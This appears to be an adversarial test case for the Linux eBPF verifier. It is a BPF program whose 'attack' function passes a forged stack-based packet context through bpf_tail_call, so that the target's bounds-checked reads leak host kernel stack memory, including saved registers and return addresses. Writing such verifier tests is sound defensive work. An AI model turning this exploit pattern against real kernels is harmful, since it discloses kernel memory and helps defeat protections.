// @class tail-call-context
// @inputs 64
/*
 * bpf_tail_call with r1 = a stack address holding a made-up context whose
 * data points into the caller's stack and whose data_end lies 1 KiB above
 * the stack's top: the target's proven packet reads would read the host
 * stack above the BPF frame (saved registers, return addresses).
 */
#include "adversarial.h"

int target(struct xdp_md *ctx);

struct {
	__uint(type, BPF_MAP_TYPE_PROG_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__array(values, int (struct xdp_md *));
} jmp_table SEC(".maps") = { .values = { [0] = (void *)&target } };

SEC("xdp")
__naked int attack(struct xdp_md *ctx)
{
	asm volatile (
	"r4 = r10;"
	"r4 += -64;"
	"*(u64 *)(r10 - 24) = r4;"
	"r4 = r10;"
	"r4 += 1024;"
	"*(u64 *)(r10 - 16) = r4;"
	"r4 = r10;"
	"r4 += -64;"
	"*(u64 *)(r10 - 8) = r4;"
	"r1 = r10;"
	"r1 += -24;"
	"r2 = %[jmp_table] ll;"
	"r3 = 0;"
	"call %[bpf_tail_call];"
	"r0 = 7;"
	"exit;"
	:
	: __imm_addr(jmp_table), __imm(bpf_tail_call)
	: __clobber_all);
}

/* Reads data[64 .. 64+256) (past the fake packet's start) when data + 512 <= data_end. */
SEC("xdp")
__naked int target(struct xdp_md *ctx)
{
	asm volatile (
	LOAD_PACKET
	"r4 = r2;"
	"r4 += 512;"
	"if r4 > r3 goto 2f;"
	"r0 = 0;"
	"r5 = 64;"
"1:"
	"r4 = r2;"
	"r4 += r5;"
	"r6 = *(u64 *)(r4 + 0);"
	"r0 += r6;"
	"r5 += 8;"
	"if r5 < 320 goto 1b;"
	"exit;"
"2:"
	"r0 = 1;"
	"exit;"
	::: __clobber_all);
}
